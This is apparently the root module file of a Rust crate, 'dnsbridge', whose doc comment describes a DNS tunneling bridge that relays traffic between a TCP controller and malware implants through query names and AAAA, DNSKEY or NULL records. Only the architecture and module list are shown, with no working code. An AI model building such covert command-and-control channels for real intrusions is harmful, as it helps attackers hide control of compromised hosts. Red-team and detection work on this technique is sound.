//! `dnsbridge` — a DNS tunneling bridge between a TCP controller and
//! DNS-only implants. Implants encode uplink payload into query names; the
//! bridge answers with downlink payload packed into AAAA, DNSKEY, or NULL
//! RDATA, and forwards opaque frames to/from a paired TCP controller
//! keyed by a rendezvous `server_id`.
//!
//! Module map, leaves first: [`encoders`] pack bytes into RDATA;
//! [`fragment`] and [`subdomain`] are the small pure-data building blocks
//! the session state machine ([`session`]) is built from; [`registry`]
//! pairs implants to controllers; [`dispatch`] classifies DNS query names
//! into session operations; [`controller`] is the TCP half; [`server`]
//! wires DNS sockets to the dispatcher; [`timeout`] sweeps both.

pub mod config;
pub mod controller;
pub mod dispatch;
pub mod domain;
pub mod encoders;
pub mod error;
pub mod fragment;
pub mod registry;
pub mod server;
pub mod session;
pub mod subdomain;
pub mod timeout;
pub mod wire;

pub use config::BridgeConfig;
pub use error::{BridgeError, Result};
pub use registry::Registry;
pub use server::DnsServer;
